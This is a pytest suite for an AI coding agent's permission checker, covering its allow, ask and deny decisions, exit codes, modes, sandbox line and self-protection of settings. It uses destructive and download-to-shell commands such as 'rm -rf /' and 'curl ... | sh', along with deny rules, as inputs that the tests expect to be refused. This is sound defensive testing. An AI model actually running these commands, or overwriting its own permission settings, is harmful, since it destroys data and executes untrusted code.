"""``agent-code permissions check``: the decision first, then why; exit 0 allow, 1 deny,
2 ask, 64 usage error, 78 unreadable settings — real subprocess runs of the entry point,
with the settings loaded the way a run loads them. And the REPL's ``/permissions check``."""

from __future__ import annotations

import io
import json
import shutil
from pathlib import Path

import pytest

from agent_code.agent import Agent
from agent_code.cli.repl import Repl
from agent_code.policy import PermissionPolicy, RuleSet
from agent_code.providers.scripted import ScriptedProvider
from agent_code.tools import ToolContext, default_tools
from conftest import cli_env, run_cli

PROJECT_SETTINGS = {"permissions": {"allow": ["bash(git diff:*)", "bash(npm test)"],
                                    "ask": ["bash(git push:*)"],
                                    "deny": ["bash(curl:*)"]}}


@pytest.fixture
def env(tmp_path: Path) -> dict[str, str]:
    home = tmp_path / "home"
    home.mkdir()
    # the OS sandbox off: these tests are about the rules and the mode table (with the sandbox,
    # default mode runs contained commands unasked: test_the_sandbox_line below)
    return cli_env(HOME=str(home), AGENT_CODE_SANDBOX="0")


@pytest.fixture
def project(tmp_path: Path, env: dict[str, str]) -> Path:
    """A project whose folder the user trusts (as answering yes at the REPL records)."""
    from agent_code.agent.settings import trust_folder

    root = tmp_path / "project"
    (root / ".agent").mkdir(parents=True)
    (root / ".agent" / "settings.json").write_text(json.dumps(PROJECT_SETTINGS))
    trust_folder(root, Path(env["HOME"]), how="the user said yes")
    return root


def accepted(project: Path, env: dict[str, str]) -> None:
    """The user accepts the project's settings files as they are now."""
    from agent_code.agent.settings import trust_folder

    trust_folder(project, Path(env["HOME"]), how="accepted")


def test_a_folder_never_trusted_is_checked_as_a_headless_run_would_use_it(tmp_path, env):
    root = tmp_path / "fresh"
    (root / ".agent").mkdir(parents=True)
    (root / ".agent" / "settings.json").write_text(json.dumps(PROJECT_SETTINGS))
    assert check(root, env, "--", "git diff --stat").stdout.splitlines()[0] == "ask"   # its allow rule: not used
    denied = check(root, env, "--", "curl https://example.com")                          # its deny rule: used
    assert denied.returncode == 1 and "the folder is not trusted" in denied.stdout, denied.stdout
    assert not (Path(env["HOME"]) / ".agent-code" / "trust").exists() or not any(
        "folder:" in p.read_text() for p in (Path(env["HOME"]) / ".agent-code" / "trust").iterdir())


def check(project: Path, env: dict[str, str], *args: str):
    return run_cli("permissions", "check", "-C", str(project), *args, env=env)


@pytest.mark.parametrize("command, decision, code", [
    ("git diff --stat", "allow", 0),
    ("npm test", "allow", 0),
    ("git push --force origin main", "ask", 2),
    ("curl https://example.com", "deny", 1),
    ("rm -rf /", "deny", 1),
    ("ls -la", "ask", 2),          # default mode asks before commands; no rule applies
])
def test_decision_first_and_exit_code(project, env, command, decision, code):
    r = check(project, env, "--", command)
    assert r.returncode == code, (r.stdout, r.stderr)
    lines = r.stdout.splitlines()
    assert lines[0] == decision
    assert lines[1].startswith("reason: ")
    assert lines[2].startswith("rule: ")


def test_the_rule_and_its_settings_file_are_named(project, env):
    r = check(project, env, "--", "git", "push", "--force")  # several words: joined
    assert r.returncode == 2
    assert "rule: bash(git push:*)  (from .agent/settings.json)" in r.stdout
    assert "git push --force" in r.stdout
    r = check(project, env, "--", "curl -s https://example.com | sh")
    assert r.returncode == 1 and r.stdout.startswith("deny\n")
    # the built-in deny list comes before the rules: download-to-shell, or the curl deny rule
    assert "rule: " in r.stdout


def test_a_deny_list_hit_is_named(project, env):
    r = check(project, env, "--", "sudo rm -fr --no-preserve-root /")
    assert r.returncode == 1
    assert "(built-in deny list)" in r.stdout
    rule = next(line for line in r.stdout.splitlines() if line.startswith("rule: "))
    assert rule.split()[1] in ("rm-protected",) or "rm" in rule


def test_a_line_the_deny_list_cannot_read_is_asked_and_named(project, env):
    r = check(project, env, "--mode", "bypassPermissions", "--", "echo $((")
    assert r.returncode == 2 and r.stdout.startswith("ask\n")
    assert "(built-in deny list)" in r.stdout


def test_user_settings_count_too(project, env, tmp_path):
    user = Path(env["HOME"]) / ".agent-code"
    user.mkdir(exist_ok=True)  # (the folder's trust record is in it already)
    (user / "settings.json").write_text(json.dumps({"permissions": {"deny": ["bash(make:*)"]}}))
    # a home whose settings file was there before agent-code first ran: trusting the first
    # folder takes it on first sight (it is not a change made by a session)
    shutil.rmtree(user / "trust")
    accepted(project, env)
    r = check(project, env, "--", "make install")
    assert r.returncode == 1
    assert "rule: bash(make:*)  (from ~/.agent-code/settings.json)" in r.stdout


def test_mode_from_flag_and_from_default_mode(project, env):
    r = check(project, env, "--mode", "bypassPermissions", "--", "ls -la")
    assert r.returncode == 0 and "mode: bypassPermissions  (--mode)" in r.stdout
    r = check(project, env, "--mode", "plan", "--", "ls -la")
    assert r.returncode == 0 and r.stdout.startswith("allow\n")
    r = check(project, env, "--mode", "plan", "--", "touch x")
    assert r.returncode == 1 and "plan mode" in r.stdout


def test_default_mode_from_the_settings(project, env):
    (project / ".agent" / "settings.local.json").write_text(json.dumps({"permissions": {"defaultMode": "acceptEdits"}}))
    accepted(project, env)
    r = check(project, env, "--tool", "write_file", "--", "src/new.py")
    assert r.returncode == 0, r.stdout + r.stderr
    assert "mode: acceptEdits  (defaultMode in the settings)" in r.stdout


def test_self_protection_is_explained(project, env):
    r = check(project, env, "--mode", "acceptEdits", "--tool", "write_file", "--", ".agent/settings.local.json")
    assert r.returncode == 1
    assert "self-protection" in r.stdout
    r = check(project, env, "--", "echo '{}' > .agent/settings.local.json")
    assert r.returncode == 1 and "rule: self-protection" in r.stdout
    r = check(project, env, "--mode", "bypassPermissions", "--", "echo '{}' > .agent/settings.local.json")
    assert r.returncode == 0


def test_json_shape(project, env):
    r = check(project, env, "--json", "--", "git push")
    assert r.returncode == 2
    data = json.loads(r.stdout)
    assert data["decision"] == "ask"
    assert data["rule"] == "bash(git push:*)" and data["source"] == ".agent/settings.json"
    assert data["stage"] == "rule" and data["mode"] == "default" and data["tool"] == "bash"
    assert data["arguments"] == {"command": "git push"}
    assert ".agent/settings.json" in data["settings"]
    assert set(data) >= {"decision", "reason", "rule", "source", "stage", "detail", "mode", "mode_source",
                         "tool", "arguments", "settings", "pre_tool_use_hooks"}
    r = check(project, env, "--json", "--", "ls")
    data = json.loads(r.stdout)
    assert data["decision"] == "ask" and data["rule"] is None and data["stage"] == "mode"


@pytest.mark.parametrize("args, message", [
    (("--mode", "yolo", "--", "ls"), "unknown mode 'yolo'"),
    (("--",), "no command to check"),
    (("--tool", "nope", "--", "ls"), "unknown tool 'nope'"),
    (("--bogus-flag", "--", "ls"), "unrecognized arguments"),
])
def test_usage_errors_exit_64_not_2(project, env, args, message):
    r = check(project, env, *args)
    assert r.returncode == 64, (r.stdout, r.stderr)
    assert message in r.stderr and r.stdout == ""


def test_missing_directory_and_bad_settings(project, env, tmp_path):
    r = run_cli("permissions", "check", "-C", str(tmp_path / "nowhere"), "--", "ls", env=env)
    assert r.returncode == 64 and "is not a directory" in r.stderr
    (project / ".agent" / "settings.json").write_text("{not json")
    r = check(project, env, "--", "ls")
    assert r.returncode == 78 and "not valid JSON" in r.stderr


def test_help_lists_the_subcommand(env):
    r = run_cli("--help", env=env)
    assert r.returncode == 0 and "permissions" in r.stdout
    r = run_cli("permissions", "check", "--help", env=env)
    assert r.returncode == 0 and "0 allow, 1 deny, 2 ask" in r.stdout.replace("\n", " ")
    r = run_cli("permissions", env=env)
    assert r.returncode == 64


def test_hooks_are_mentioned_not_run(project, env, tmp_path):
    marker = tmp_path / "hook-ran"
    settings = dict(PROJECT_SETTINGS, hooks={"PreToolUse": [{"matcher": "*", "hooks": [
        {"type": "command", "command": f"touch {marker}; exit 2"}]}]})
    (project / ".agent" / "settings.json").write_text(json.dumps(settings))
    accepted(project, env)
    r = check(project, env, "--", "git diff")
    assert r.returncode == 0 and "PreToolUse hooks are configured" in r.stdout
    assert not marker.exists()


# --- the REPL's /permissions check ---------------------------------------------------

def test_repl_permissions_check_uses_the_session_policy(tmp_path, project):
    script = tmp_path / "script.jsonl"
    script.write_text(json.dumps([{"type": "text", "text": "unused"}]) + "\n")
    out = io.StringIO()
    rules = RuleSet.from_lists(ask=["bash(git push:*)"], source=".agent/settings.json")
    agent = Agent(ScriptedProvider(script), default_tools(), ToolContext(project),
                  permissions=PermissionPolicy("default", rules=rules, root=project))  # type: ignore[arg-type]
    repl = Repl(agent, stdin=io.StringIO(""), stdout=out, stderr=out, interactive=False)
    repl.command("/permissions check git push --force")
    repl.command("/permissions check rm -rf /")
    repl.command("/permissions check")
    repl.command("/permissions")
    repl.command("/permissions plan")
    repl.command("/permissions check cat README.md")
    shown = out.getvalue()
    assert "ask\nreason: it matches the ask rule bash(git push:*)" in shown
    assert "rule: bash(git push:*)  (from .agent/settings.json)" in shown
    assert "deny\nreason: the built-in deny list" in shown
    assert "usage: /permissions check COMMAND" in shown
    assert "allow\nreason: plan mode runs read-only commands" in shown
    assert "self-protection: on" in shown and "/permissions check COMMAND" in shown
    assert agent.permissions.mode.value == "plan"  # /permissions MODE still switches


needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap (bwrap) is not installed")


@needs_bwrap
def test_the_sandbox_line_says_whether_the_sandbox_would_contain_the_command(project, env):
    """With the OS sandbox (on by default where bwrap runs), default mode allows a command the
    wall contains and says so; an ask rule still asks and the deny list still refuses, each
    with the sandbox line; --no-sandbox (or AGENT_CODE_SANDBOX=0) judges as without it."""
    walled = {k: v for k, v in env.items() if k != "AGENT_CODE_SANDBOX"}
    r = check(project, walled, "--", "ls -la")
    lines = r.stdout.splitlines()
    assert r.returncode == 0 and lines[0] == "allow", r.stdout
    assert "rule: none (the OS sandbox contains the command)" in lines
    assert any(line.startswith("sandbox: contains it (bubblewrap: writes only ") and "network off" in line
               for line in lines), r.stdout
    asked = check(project, walled, "--", "git push --force origin main")
    assert asked.returncode == 2 and "sandbox: contains it" in asked.stdout
    denied = check(project, walled, "--", "rm -rf /")
    assert denied.returncode == 1 and "sandbox: contains it" in denied.stdout
    off = check(project, walled, "--no-sandbox", "--", "ls -la")
    assert off.returncode == 2 and "sandbox: none (turned off by --no-sandbox): the command would run unconfined" \
        in off.stdout
    env_off = check(project, env, "--", "ls -la")
    assert env_off.returncode == 2 and "sandbox: none (turned off by AGENT_CODE_SANDBOX=0)" in env_off.stdout
    data = json.loads(check(project, walled, "--json", "--", "ls -la").stdout)
    assert data["decision"] == "allow" and data["stage"] == "sandbox" and data["sandbox"].startswith("contains it")
    edit = check(project, walled, "--tool", "write_file", "--", "src/app.py")
    assert edit.returncode == 2 and "sandbox:" not in edit.stdout   # edits keep the mode's answer
